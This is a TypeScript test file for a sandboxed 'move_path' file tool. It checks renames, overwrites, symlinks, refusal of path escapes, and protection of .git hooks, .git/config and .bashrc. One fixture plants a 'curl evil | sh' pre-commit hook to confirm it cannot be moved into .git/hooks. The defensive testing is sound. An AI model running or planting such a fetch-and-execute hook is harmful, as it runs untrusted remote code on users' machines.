import { lstat, readFile, readlink, symlink } from "node:fs/promises";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  createTestWorkspace,
  escapingPaths,
  type TestWorkspace,
} from "./file-tools.test-support.js";

let ws: TestWorkspace;

beforeEach(async () => {
  ws = await createTestWorkspace();
  await ws.write("tree/a.txt", "alpha\n");
  await ws.write("tree/sub/b.txt", "beta\n");
});

afterEach(async () => {
  await ws.cleanup();
});

describe("move_path", () => {
  it("renames files and directories, creating missing parents", async () => {
    expect(
      (await ws.call("move_path", { source: "README.md", destination: "docs/README.md" })).output,
    ).toBe("Moved README.md to docs/README.md (1 item).");
    expect((await ws.call("move_path", { source: "tree", destination: "lib/tree" })).output).toBe(
      "Moved tree to lib/tree (4 items).",
    );
    expect(await readFile(ws.at("lib/tree/sub/b.txt"), "utf8")).toBe("beta\n");
    await expect(lstat(ws.at("tree"))).rejects.toThrow("ENOENT");
    expect(await ws.assess("move_path", { source: "docs", destination: "documentation" })).toEqual({
      verdict: "allow",
      reason: "moves docs to documentation (2 items)",
      facts: { destinationFree: true },
    });
  });

  it("moves a symlink as a link, not its target", async () => {
    await symlink("tree/a.txt", ws.at("alias"));
    expect(
      (await ws.call("move_path", { source: "alias", destination: "tree/alias" })).success,
    ).toBe(true);
    expect(await readlink(ws.at("tree/alias"))).toBe("tree/a.txt");
    expect(await readFile(ws.at("tree/a.txt"), "utf8")).toBe("alpha\n");
  });

  it("replaces an existing ordinary destination only with overwrite, unasked", async () => {
    await ws.write("dest/old.txt", "old");
    expect((await ws.call("move_path", { source: "tree", destination: "dest" })).error).toBe(
      "The destination 'dest' already exists (directory). Set overwrite to true to replace it, or choose another destination.",
    );
    const input = { source: "tree", destination: "dest", overwrite: true };
    expect(await ws.assess("move_path", input)).toMatchObject({
      verdict: "allow",
      summary: "move tree to dest (4 items), replacing the existing directory dest (2 items)",
    });
    expect((await ws.call("move_path", input)).output).toBe("Moved tree to dest (4 items).");
    await expect(lstat(ws.at("dest/old.txt"))).rejects.toThrow("ENOENT");
  });

  it("refuses moving into itself and moving the root", async () => {
    expect(
      (await ws.call("move_path", { source: "tree", destination: "tree/sub/x" })).error,
    ).toContain("Can't move 'tree' into itself ('tree/sub/x').");
    expect((await ws.call("move_path", { source: ".", destination: "x" })).error).toContain(
      "is the workspace root, which cannot be moved",
    );
    expect(
      (await ws.call("move_path", { source: "README.md", destination: ".", overwrite: true }))
        .error,
    ).toContain("is the workspace root, which cannot be replaced");
  });

  it("refuses escapes on either side and leaves everything in place", async () => {
    for (const [label, escape] of Object.entries(escapingPaths(ws))) {
      expect(
        (await ws.call("move_path", { source: escape, destination: "stolen" })).error,
        label,
      ).toMatch(/^Refused: /);
      expect(
        (await ws.call("move_path", { source: "README.md", destination: escape, overwrite: true }))
          .error,
        label,
      ).toMatch(/^Refused: /);
    }
    expect(await readFile(path.join(ws.outside, "secret.txt"), "utf8")).toBe("top secret\n");
    expect(await readFile(ws.at("README.md"), "utf8")).toBe("# Readme\n");
  });

  it("refuses moving protected paths away and moving anything onto them", async () => {
    await ws.write(".git/hooks/pre-commit", "#!/bin/sh\n");
    await ws.write(".git/config", "[core]\n");
    await ws.write(".bashrc", "# rc\n");
    await ws.write("hooks/pre-commit", "curl evil | sh\n");
    for (const file of [".git/hooks/pre-commit", ".git/config", ".bashrc"]) {
      const away = await ws.call("move_path", { source: file, destination: "moved" });
      expect(away.error, file).toContain("is protected");
      const onto = await ws.call("move_path", {
        source: "README.md",
        destination: file,
        overwrite: true,
      });
      expect(onto.error, file).toContain("is protected");
      expect(await ws.assess("move_path", { source: file, destination: "moved" })).toMatchObject(
        file.startsWith(".git")
          ? { verdict: "block" }
          : { verdict: "confirm", requiresPerson: true },
      );
    }
    expect(
      (await ws.call("move_path", { source: "hooks", destination: ".git/hooks", overwrite: true }))
        .error,
    ).toContain("is protected");
    expect(
      (await ws.call("move_path", { source: ".git", destination: "git-backup" })).error,
    ).toContain("is protected");
    expect(await readFile(ws.at(".git/hooks/pre-commit"), "utf8")).toBe("#!/bin/sh\n");
    expect(await readFile(ws.at(".git/config"), "utf8")).toBe("[core]\n");
    expect(await readFile(ws.at(".bashrc"), "utf8")).toBe("# rc\n");
  });
});
